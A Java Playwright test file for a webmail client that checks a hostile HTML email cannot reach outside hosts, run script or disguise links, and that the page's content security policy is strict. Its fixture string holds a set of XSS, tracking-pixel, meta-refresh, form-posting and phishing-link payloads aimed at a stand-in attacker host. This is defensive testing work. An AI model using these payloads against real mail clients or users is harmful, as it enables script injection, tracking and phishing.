package io.mainstem.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Page;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** The page talks to its own origin only, whatever a mail tries. */
class OwnOriginTest {
  private static final String HOSTILE =
      """
      From: Mallory <mallory@evil.example>
      To: alice
      Subject: <img src=x onerror=alert(1)> You won
      MIME-Version: 1.0
      Content-Type: text/html; charset=utf-8

      <html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
      <link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/prefetch">
      <link rel="dns-prefetch" href="//dns.evil.example"><link rel="preconnect" href="https://evil.example">
      <style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/bg.png) } @font-face { font-family: x; src: url(https://evil.example/f.woff2) } * { font-family: x; cursor: url(https://evil.example/c.cur), auto }</style>
      <script src="https://evil.example/a.js"></script><script>parent.postMessage('owned', '*'); fetch('https://evil.example/fetch'); document.title = 'owned'</script></head>
      <body background="https://evil.example/body.png" onload="fetch('https://evil.example/onload')">
      <img src="https://evil.example/pixel.gif" srcset="https://evil.example/set.gif 2x" onerror="alert(1)"><img src="//evil.example/relative.gif"><img src="/api/v1/session">
      <picture><source srcset="https://evil.example/picture.webp"><img src="https://evil.example/picture.png"></picture>
      <video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>
      <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
      <svg><image href="https://evil.example/svg.png"/><use href="https://evil.example/u.svg#a"/></svg><math href="javascript:alert(1)">x</math>
      <form action="https://evil.example/form"><input name="q"><button>Send</button></form>
      <table background="https://evil.example/t.png"><tr><td style="background-image:url('https://evil.example/td.png')">Cell</td></tr></table>
      <div style="background:url(https://evil.example/div.png);position:fixed;inset:0;z-index:9999">Over everything</div>
      <a href="javascript:alert(1)">script</a> <a href="https://evil.example/phish" ping="https://evil.example/ping">www.bank.example</a>
      <p>The end of the hostile mail</p></body></html>\
      """;

  @RegisterExtension final Desk desk = new Desk();

  private final List<String> foreign = new CopyOnWriteArrayList<>();

  private Page watched(RunningServer.Account account) {
    var page = desk.window(account);
    page.context()
        .onRequest(
            request -> {
              var url = request.url();
              if (!url.startsWith(desk.server.url() + "/")
                  && !url.startsWith("data:")
                  && !url.startsWith("blob:")
                  && !url.startsWith("about:")) {
                foreign.add(url);
              }
            });
    page.onDialog(dialog -> foreign.add("dialog " + dialog.message()));
    return page;
  }

  @Test
  void hostileMailReachesNobody() throws Exception {
    var alice = desk.server.person("Alice");
    desk.server.smtp("mallory@evil.example", alice, HOSTILE);
    var page = watched(alice);
    Desk.open(page, "Mallory");
    var frame = page.frameLocator("mail-frame iframe");
    assertThat(frame.getByText("The end of the hostile mail")).isVisible();
    page.waitForTimeout(1_500);
    assertEquals(List.of(), foreign);
    assertTrue(page.title().contains("Mainstem"));
    var sandbox = page.locator("mail-frame iframe").getAttribute("sandbox");
    assertFalse(sandbox.contains("allow-scripts"), sandbox);
    assertFalse(sandbox.contains("allow-same-origin"), sandbox);
    assertThat(
            frame.locator(
                "script, form, iframe, object, embed, link, meta[http-equiv=refresh], base[href]"))
        .hasCount(0);
  }

  @Test
  void linksShowWhereTheyReallyGo() throws Exception {
    var alice = desk.server.person("Alice");
    desk.server.smtp("mallory@evil.example", alice, HOSTILE);
    var page = watched(alice);
    Desk.open(page, "Mallory");
    var link = page.frameLocator("mail-frame iframe").getByText("www.bank.example");
    assertThat(link).isVisible();
    assertEquals("evil.example", link.getAttribute("data-host"));
    var shown =
        (String)
            link.evaluate(
                "a => getComputedStyle(a, '::after').content + getComputedStyle(a,"
                    + " '::after').color");
    assertTrue(shown.contains("data-host") || shown.contains("evil.example"), shown);
    assertTrue(
        shown.contains("rgb(176, 38, 28)"), "a text that names another host is marked: " + shown);
    assertEquals("noopener noreferrer nofollow", link.getAttribute("rel"));
    assertEquals("_blank", link.getAttribute("target"));
  }

  @Test
  void remoteImagesLoadOnlyWhenAllowed() throws Exception {
    var alice = desk.server.person("Alice");
    desk.server.smtp(
        "news@river.example",
        alice,
        """
        From: River News <news@river.example>
        To: alice
        Subject: Water is high
        MIME-Version: 1.0
        Content-Type: text/html; charset=utf-8

        <p>Look: <img src="https://river.example/weir.png" alt="The weir" width="200" height="100"></p>\
        """);
    var page = watched(alice);
    Desk.open(page, "River News");
    page.getByText("1 remote image is blocked").waitFor();
    assertThat(page.frameLocator("mail-frame iframe").getByText("Look:")).isVisible();
    assertEquals(List.of(), foreign);
    page.getByText("Show images").click();
    page.getByText("1 remote image is blocked")
        .waitFor(
            new com.microsoft.playwright.Locator.WaitForOptions()
                .setState(com.microsoft.playwright.options.WaitForSelectorState.DETACHED));
    Desk.until(
        () -> {
          page.waitForTimeout(50);
          return !foreign.isEmpty();
        });
    assertEquals(
        List.of("https://river.example/weir.png"), List.copyOf(new java.util.TreeSet<>(foreign)));
  }

  @Test
  void thePolicyAllowsNothingForeignAndNothingInline() throws Exception {
    var page = desk.window(Desk.Look.DESKTOP);
    var policy = page.navigate("/").headerValue("content-security-policy");
    assertTrue(policy.startsWith("default-src 'none'"), policy);
    assertFalse(policy.contains("unsafe"), policy);
    assertFalse(policy.contains("http"), policy);
    assertFalse(policy.contains("*"), policy);
  }
}
